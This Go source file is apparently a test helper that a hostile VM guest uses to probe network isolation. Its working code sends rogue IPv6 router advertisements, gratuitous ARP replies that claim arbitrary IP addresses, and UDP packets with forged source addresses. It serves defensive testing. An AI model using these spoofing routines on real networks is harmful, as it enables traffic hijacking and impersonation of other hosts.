// Command hostilenet is what a hostile guest (root in its VM) sends at the
// host and other VMs in e2e/hostile_net_test.go: raw frames through an
// AF_PACKET socket and forged IPv4 through IP_HDRINCL. Standard library
// only, built static by the test and copied into the guest.
//
//	hostilenet ra IFACE                      IPv6 router advertisement (default route + prefix)
//	hostilenet arp IFACE CLAIMED_IP [MAC]    gratuitous ARP request and reply: CLAIMED_IP is-at MAC (default: IFACE's)
//	hostilenet udp SRC_IP DST_IP PORT MSG    one UDP datagram with any source address
//	hostilenet listen PORT SECONDS           print "MSG from IP" for each datagram to PORT (the victim's side)
package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"syscall"
	"time"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "hostilenet:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	if len(args) < 1 {
		return fmt.Errorf("usage: ra IFACE | arp IFACE CLAIMED_IP [MAC] | udp SRC DST PORT MSG")
	}
	switch {
	case args[0] == "ra" && len(args) == 2:
		ifi, err := net.InterfaceByName(args[1])
		if err != nil {
			return err
		}
		return sendFrame(ifi, routerAdvertisement(ifi.HardwareAddr))
	case args[0] == "arp" && (len(args) == 3 || len(args) == 4):
		ifi, err := net.InterfaceByName(args[1])
		if err != nil {
			return err
		}
		ip := net.ParseIP(args[2]).To4()
		if ip == nil {
			return fmt.Errorf("bad ip %q", args[2])
		}
		mac := ifi.HardwareAddr
		if len(args) == 4 {
			if mac, err = net.ParseMAC(args[3]); err != nil {
				return err
			}
		}
		for _, op := range []uint16{1, 2} { // request and reply, both gratuitous
			for range 3 {
				if err := sendFrame(ifi, gratuitousARP(mac, ip, op)); err != nil {
					return err
				}
			}
		}
		return nil
	case args[0] == "udp" && len(args) == 5:
		return sendUDP(args[1], args[2], args[3], args[4])
	case args[0] == "listen" && len(args) == 3:
		return listen(args[1], args[2])
	}
	return fmt.Errorf("bad arguments %q", args)
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

func sendFrame(ifi *net.Interface, frame []byte) error {
	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, int(htons(syscall.ETH_P_ALL)))
	if err != nil {
		return fmt.Errorf("packet socket: %w", err)
	}
	defer syscall.Close(fd)
	sa := &syscall.SockaddrLinklayer{Ifindex: ifi.Index, Protocol: htons(syscall.ETH_P_ALL)}
	if err := syscall.Sendto(fd, frame, 0, sa); err != nil {
		return fmt.Errorf("send frame on %s: %w", ifi.Name, err)
	}
	return nil
}

func ether(dst, src net.HardwareAddr, typ uint16) []byte {
	b := make([]byte, 14)
	copy(b, dst)
	copy(b[6:], src)
	binary.BigEndian.PutUint16(b[12:], typ)
	return b
}

func gratuitousARP(mac net.HardwareAddr, ip net.IP, op uint16) []byte {
	bcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	b := ether(bcast, mac, syscall.ETH_P_ARP)
	a := make([]byte, 28)
	binary.BigEndian.PutUint16(a[0:], 1)      // ethernet
	binary.BigEndian.PutUint16(a[2:], 0x0800) // ipv4
	a[4], a[5] = 6, 4
	binary.BigEndian.PutUint16(a[6:], op)
	copy(a[8:], mac)
	copy(a[14:], ip)
	copy(a[18:], bcast)
	copy(a[24:], ip)
	return append(b, a...)
}

// routerAdvertisement announces this guest as the default router (lifetime
// 1800 s) with the prefix 2001:db8:bad::/64 for autoconfiguration.
func routerAdvertisement(mac net.HardwareAddr) []byte {
	src := net.ParseIP("fe80::bad:1").To16()
	dst := net.ParseIP("ff02::1").To16()
	icmp := []byte{134, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0}
	// Source link-layer address option.
	icmp = append(icmp, 1, 1)
	icmp = append(icmp, mac...)
	// Prefix information: on-link + autonomous, long lifetimes.
	pi := make([]byte, 32)
	pi[0], pi[1], pi[2], pi[3] = 3, 4, 64, 0xc0
	binary.BigEndian.PutUint32(pi[4:], 86400)
	binary.BigEndian.PutUint32(pi[8:], 14400)
	copy(pi[16:], net.ParseIP("2001:db8:bad::").To16())
	icmp = append(icmp, pi...)
	// Checksum over the IPv6 pseudo-header.
	var sum uint32
	add := func(b []byte) {
		for i := 0; i+1 < len(b); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(b[i:]))
		}
		if len(b)%2 == 1 {
			sum += uint32(b[len(b)-1]) << 8
		}
	}
	add(src)
	add(dst)
	ph := make([]byte, 8)
	binary.BigEndian.PutUint32(ph, uint32(len(icmp)))
	ph[7] = 58
	add(ph)
	add(icmp)
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	binary.BigEndian.PutUint16(icmp[2:], ^uint16(sum))

	ip6 := make([]byte, 40)
	ip6[0] = 0x60
	binary.BigEndian.PutUint16(ip6[4:], uint16(len(icmp)))
	ip6[6], ip6[7] = 58, 255
	copy(ip6[8:], src)
	copy(ip6[24:], dst)
	b := ether(net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1}, mac, 0x86dd)
	return append(append(b, ip6...), icmp...)
}

// sendUDP sends one datagram with a source address of the caller's choice
// (IP_HDRINCL: the kernel fills in the length and header checksum only).
func sendUDP(srcS, dstS, portS, msg string) error {
	src, dst := net.ParseIP(srcS).To4(), net.ParseIP(dstS).To4()
	var port int
	if _, err := fmt.Sscan(portS, &port); err != nil || src == nil || dst == nil || port <= 0 || port > 65535 {
		return fmt.Errorf("bad udp arguments %q %q %q", srcS, dstS, portS)
	}
	udp := make([]byte, 8+len(msg))
	binary.BigEndian.PutUint16(udp[0:], 40000)
	binary.BigEndian.PutUint16(udp[2:], uint16(port))
	binary.BigEndian.PutUint16(udp[4:], uint16(len(udp)))
	copy(udp[8:], msg) // checksum 0: none, allowed for IPv4
	ip := make([]byte, 20)
	ip[0], ip[8], ip[9] = 0x45, 64, syscall.IPPROTO_UDP
	binary.BigEndian.PutUint16(ip[2:], uint16(20+len(udp)))
	copy(ip[12:], src)
	copy(ip[16:], dst)
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		return fmt.Errorf("raw socket: %w", err)
	}
	defer syscall.Close(fd)
	sa := &syscall.SockaddrInet4{}
	copy(sa.Addr[:], dst)
	if err := syscall.Sendto(fd, append(ip, udp...), 0, sa); err != nil {
		return fmt.Errorf("send udp from %s: %w", srcS, err)
	}
	return nil
}

// listen prints each datagram to port for secs seconds; "ready" first, so
// the caller knows when to send.
func listen(port, secs string) error {
	var d int
	if _, err := fmt.Sscan(secs, &d); err != nil || d <= 0 || d > 60 {
		return fmt.Errorf("bad seconds %q", secs)
	}
	pc, err := net.ListenPacket("udp4", ":"+port)
	if err != nil {
		return err
	}
	defer pc.Close()
	fmt.Println("ready")
	deadline := time.Now().Add(time.Duration(d) * time.Second)
	buf := make([]byte, 512)
	for time.Now().Before(deadline) {
		_ = pc.SetReadDeadline(deadline)
		n, from, err := pc.ReadFrom(buf)
		if err != nil {
			break
		}
		fmt.Printf("%s from %s\n", buf[:n], from.(*net.UDPAddr).IP)
	}
	return nil
}
